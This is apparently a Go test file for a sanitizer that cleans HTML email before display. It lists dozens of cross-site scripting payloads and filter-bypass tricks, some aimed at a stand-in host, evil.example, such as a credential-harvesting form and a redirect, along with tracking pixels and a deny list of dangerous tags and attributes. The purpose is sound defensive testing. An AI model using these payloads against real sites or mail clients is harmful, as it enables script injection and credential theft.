package mime

import (
	"slices"
	"strings"
	"testing"

	"golang.org/x/net/html"
)

// hostileHTML is what strangers write to get at whoever reads it, and what is
// left of it. Where want is "", no more is asked than of every page.
var hostileHTML = map[string]struct{ page, want string }{
	"script":                  {`a<script>alert(1)</script>b`, `ab`},
	"script in capitals":      {`a<ScRiPt src=//evil.example>alert(1)</sCrIpT>b`, `ab`},
	"script never closed":     {`a<script>alert(1)`, `a`},
	"script in script":        {`a<scr<script></script>ipt>alert(1)</script>`, ``},
	"handler":                 {`<p onclick="alert(1)">a</p>`, `<p>a</p>`},
	"handler behind a slash":  {`<img/onerror=alert(1)/src=cid:a>`, ``},
	"handler in a quote":      {`<img src="cid:a" alt="x" onerror="alert(1)">`, `<img src="cid:a" alt="x">`},
	"handler by entity":       {`<img src=cid:a o&#110;error=alert(1)>`, ``},
	"javascript link":         {`<a href="javascript:alert(1)">a</a>`, ``},
	"javascript with blanks":  {"<a href=' java\tscript:alert(1)'>a</a>", ``},
	"javascript by entities":  {`<a href="&#106;avascript&colon;alert(1)">a</a>`, ``},
	"vbscript link":           {`<a href="vbscript:msgbox(1)">a</a>`, ``},
	"data link":               {`<a href="data:text/html,<script>alert(1)</script>">a</a>`, ``},
	"data image link":         {`<a href="data:image/png;base64,AAAA">a</a>`, ``},
	"relative link":           {`<a href="/api/v1/messages">a</a>`, ``},
	"link without a server":   {`<a href="https:/api/v1">a</a><img src="https:api">`, `<a>a</a>`},
	"svg":                     {`a<svg onload=alert(1)><script>1</script><text>x</text></svg>b`, `ab`},
	"svg image as data":       {`<img src="data:image/svg+xml;base64,PHN2Zz4=">`, ``},
	"html as data image":      {`<img src="data:text/html;base64,AAAA">`, ``},
	"math":                    {`a<math><mi xlink:href="javascript:alert(1)">x</mi></math>b`, `ab`},
	"frame":                   {`a<iframe src="https://evil.example"></iframe>b`, `ab`},
	"object and embed":        {`a<object data="x.swf"><embed src="x.swf"></object>b`, `ab`},
	"form":                    {`<form action="https://evil.example"><input name=p type=password><button>go</button></form>`, ``},
	"base":                    {`<base href="https://evil.example/"><a href="https://example.com/">a</a>`, ``},
	"refresh":                 {`<meta http-equiv=refresh content="0;url=https://evil.example">a`, `a`},
	"style sheet":             {`<style>@import url(https://evil.example/x.css);</style><link rel=stylesheet href=x.css>a`, `a`},
	"style with address":      {`<p style="background:url(https://evil.example/x.png);color:red">a</p>`, `<p style="color: red">a</p>`},
	"style with expression":   {`<p style="width:expression(alert(1))">a</p>`, `<p>a</p>`},
	"style over the page":     {`<div style="position:fixed;top:0;left:0;z-index:9999;margin-left:-99px">a</div>`, `<div>a</div>`},
	"style that escapes":      {`<p style="color:red;} body{display:none">a</p>`, ``},
	"remote picture":          {`<img src="https://track.example/p.gif?u=1" width=1>`, `<img data-remote-src="https://track.example/p.gif?u=1" width="1">`},
	"remote without scheme":   {`<img src="//track.example/p.gif">`, `<img data-remote-src="https://track.example/p.gif">`},
	"remote in capitals":      {`<img src=" HTTP://track.example/p.gif">`, `<img data-remote-src="http://track.example/p.gif">`},
	"remote by srcset":        {`<img srcset="https://track.example/p.gif 2x" src=cid:a>`, `<img src="cid:a">`},
	"remote background":       {`<table background="https://track.example/p.gif"><tr><td>a</td></tr></table>`, `<table><tr><td>a</td></tr></table>`},
	"forged mark":             {`<img data-remote-src="javascript:alert(1)" alt=a>`, `<img alt="a">`},
	"own picture":             {`<img src="cid:logo@example.com" alt="our logo">`, `<img src="cid:logo@example.com" alt="our logo">`},
	"written picture":         {`<img src="data:image/png;base64,iVBORw0KGgo=">`, `<img src="data:image/png;base64,iVBORw0KGgo=">`},
	"names and ids":           {`<p id=location name=cookie class=admin>a</p>`, `<p>a</p>`},
	"ends the page's element": {`</div></div></body><h1>a</h1>`, `<h1>a</h1>`},
	"opens and closes not":    {`<div><b><table><tr><td>a`, `<div><b><table><tr><td>a</td></tr></table></b></div>`},
	"comment":                 {`a<!-- <script>alert(1)</script> --><!--[if mso]>b<![endif]-->c`, `ac`},
	"comment never closed":    {`a<!-- b <script>alert(1)</script>`, `a`},
	"noscript trick":          {`<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>`, ``},
	"title trick":             {`<title><a title="</title><script>alert(1)</script>">`, ``},
	"textarea trick":          {`<textarea><img title="</textarea><img src=x onerror=alert(1)>">`, ``},
	"xmp":                     {`<xmp><script>alert(1)</script></xmp>`, ``},
	"plaintext":               {`<plaintext><script>alert(1)</script>`, ``},
	"template":                {`a<template><script>1</script></template>b`, `ab`},
	"null in a name":          {"<scr\x00ipt>alert(1)</scr\x00ipt>", ``},
	"quotes left open":        {`<img alt="a src=x onerror=alert(1)>`, ``},
	"hidden preheader":        {`<div style="display:none!important">psst</div><p>a</p>`, `<p>a</p>`},
	"hidden by height":        {`<div style="max-height:0px; overflow: hidden">psst</div>a`, `a`},
	"hidden by class":         {`<style>.pre,td.x{display:none} @media print{.y{display:none}}</style><i class="k pre">psst</i><p class=y>a</p>`, `<p>a</p>`},
	"hidden by attribute":     {`<p hidden>psst</p><img hidden src=cid:a>a`, `a`},
	"letters of no size":      {`<td style="font-size:0"><p style="font-size:13px">a</p></td>`, ``},
	"link":                    {`<a href="https://example.com/?a=1&amp;b=2">a</a>`, `<a href="https://example.com/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">a</a>`},
	"mail link":               {`<a href="mailto:help@example.org">a</a>`, `<a href="mailto:help@example.org" rel="nofollow noreferrer">a</a>`},
}

func TestSafeHTML(t *testing.T) {
	for name, c := range hostileHTML {
		t.Run(name, func(t *testing.T) {
			got := SafeHTML(c.page)
			if c.want != "" && got != c.want {
				t.Errorf("%s\nmade  %s\nwant  %s", c.page, got, c.want)
			}
			checkSafe(t, got)
		})
	}
	if got := SafeHTML(hostileHTML["letters of no size"].page); !strings.Contains(got, ">a<") {
		t.Errorf("what a template wraps is gone: %q", got)
	}
	if SafeHTML(" \n") != "" || SafeHTML("") != "" {
		t.Error("nothing became something")
	}
}

// TestSafeGolden makes the pages of all golden mails safe.
func TestSafeGolden(t *testing.T) {
	for _, name := range golden(t) {
		checkSafe(t, SafeHTML(Read(readFile(t, name+".eml"), Options{}).HTML))
	}
}

// checkSafe checks what holds of every page that is shown.
func checkSafe(t testing.TB, page string) {
	t.Helper()
	var open []string
	z := html.NewTokenizer(strings.NewReader(page))
	for {
		kind := z.Next()
		token := z.Token()
		switch kind {
		case html.ErrorToken:
			if len(open) > 0 {
				t.Errorf("%q stay open in %q", open, page)
			}
			return
		case html.CommentToken, html.DoctypeToken, html.SelfClosingTagToken:
			t.Errorf("%v in %q", kind, page)
		case html.StartTagToken:
			checkTag(t, page, token)
			if !void(token.DataAtom) {
				open = append(open, token.Data)
			}
		case html.EndTagToken:
			if len(open) == 0 || open[len(open)-1] != token.Data {
				t.Errorf("</%s> ends %q in %q", token.Data, open, page)
				return
			}
			open = open[:len(open)-1]
		}
	}
}

func checkTag(t testing.TB, page string, token html.Token) {
	t.Helper()
	if slices.Contains([]string{"script", "style", "iframe", "object", "embed", "form", "input", "button", "base", "meta", "link", "svg", "math"}, token.Data) || token.DataAtom == 0 {
		t.Errorf("<%s> in %q", token.Data, page)
	}
	for _, a := range token.Attr {
		value := strings.ToLower(a.Val)
		switch {
		case strings.HasPrefix(a.Key, "on"), a.Key == "srcset", a.Key == "background", a.Key == "id", a.Key == "class", a.Key == "action":
			t.Errorf("attribute %s in %q", a.Key, page)
		case a.Key == "style" && (strings.Contains(value, "url") || strings.Contains(value, "expression") || strings.Contains(value, "position")):
			t.Errorf("style %q in %q", value, page)
		case a.Key == "src" && value != "" && !strings.HasPrefix(value, "cid:") && !strings.HasPrefix(value, "data:image/"):
			t.Errorf("src %q in %q", value, page)
		case a.Key == RemoteImage && !isWeb(value):
			t.Errorf("remote %q in %q", value, page)
		case a.Key == "href" && !isWeb(value) && !strings.HasPrefix(value, "mailto:") && !strings.HasPrefix(value, "tel:"):
			t.Errorf("href %q in %q", value, page)
		}
	}
}

// FuzzSafeHTML makes strangers' pages safe: whatever they are, the result is
// safe, and making it safe again changes nothing.
func FuzzSafeHTML(f *testing.F) {
	for _, c := range hostileHTML {
		f.Add(c.page)
	}
	f.Fuzz(func(t *testing.T, page string) {
		got := SafeHTML(page)
		checkSafe(t, got)
		if again := SafeHTML(got); again != got {
			t.Errorf("%q\nonce  %q\ntwice %q", page, got, again)
		}
	})
}
